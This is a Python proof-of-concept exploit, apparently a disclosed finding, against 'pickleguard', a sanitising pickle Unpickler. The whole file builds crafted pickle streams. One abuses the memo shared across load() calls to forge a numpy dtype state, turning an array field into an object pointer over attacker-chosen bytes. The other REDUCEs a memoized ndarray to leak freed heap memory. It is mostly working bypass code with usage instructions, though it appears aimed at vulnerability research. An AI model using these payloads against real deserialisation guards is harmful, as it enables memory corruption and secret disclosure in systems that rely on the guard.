"""F2: one Unpickler, two load() calls (a stream of pickles). CPython (and pickleguard's
Unpickler) keep the memo across load() calls, but pickleguard's provenance is per load: in the
second load a dtype from the first load is unknown, so BUILD onto it is not checked at all.
The second pickle gives the first pickle's (already checked, already used) dtype a forged state:
field `a` becomes an object field over the raw bytes of the array, with flags that hide it.

Variant `apply`: the same gap for APPLY. The first pickle only memoizes the class
`numpy.ndarray` (allowed to be referenced, never applied); the second fetches it from the memo
and REDUCEs it directly: uninitialised heap memory (a freed secret) comes back as array data.

Usage: python f2_cross_load_build.py build FILE ; python f2_cross_load_build.py load FILE
       python f2_cross_load_build.py build-apply FILE ; python f2_cross_load_build.py load-apply FILE
"""
import io
import pickle
import struct
import sys

sys.path.insert(0, __import__("os").path.dirname(__file__))
from pk import P  # noqa: E402


def first(addr):
    p = P(3)
    p.glob("numpy._core.multiarray", "_reconstruct").glob("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
    p.mark().i(1).i(1).t1()
    p.dtype("V16").put(1)  # memo 1 = the dtype
    p.mark().i(3).s("|").none().s("a").s("b").t2()
    p.empty_dict()
    p.mark().s("a").plain_dtype("i8", "<").i(0).t2().s("b").plain_dtype("i8", "<").i(8).t2().setitems()
    p.i(16).i(1).i(16).tup().build()
    p.false().by(struct.pack("<QQ", addr, 0)).tup().build()
    return p.stop().bytes()


def second():
    p = P(3)
    p.get(1)  # the first load's dtype, unknown to this load's provenance
    p.mark().i(3).s("|").none().s("a").s("b").t2()
    p.empty_dict()
    p.mark().s("a").plain_dtype("O8", "|", 63).i(0).t2().s("b").plain_dtype("i8", "<").i(8).t2().setitems()
    p.i(16).i(1).i(16).tup().build()  # flags 16: no ITEM_REFCOUNT, so nothing is freed
    return p.stop().bytes()


def load(path):
    u = pickle.Unpickler(open(path, "rb"))
    arr = u.load()
    print("first load:", arr.dtype, flush=True)
    u.load()
    print("second load: dtype now", arr.dtype, flush=True)
    print("field a:", arr["a"][0], flush=True)


SECRET = b"PICKLEGUARD-FREED-SECRET-"


def apply_files():
    one = P(3).glob("numpy", "ndarray").put(0).pop().none().stop().bytes()
    two = P(3).get(0).i(7500).t1().reduce().stop().bytes()
    return one + two


def load_apply(path):
    u = pickle.Unpickler(open(path, "rb"))
    print("first load:", u.load(), flush=True)
    secret = bytearray(SECRET * 2400)
    del secret
    arr = u.load()
    leaked = SECRET in arr.tobytes()
    print("second load: ndarray", arr.shape, "holds the freed secret:", leaked, flush=True)
    sys.exit(4 if leaked else 0)


if __name__ == "__main__":
    if sys.argv[1] == "build":
        open(sys.argv[2], "wb").write(first(0x4141414141414141) + second())
    elif sys.argv[1] == "build-apply":
        open(sys.argv[2], "wb").write(apply_files())
    elif sys.argv[1] == "load-apply":
        load_apply(sys.argv[2])
    else:
        load(sys.argv[2])
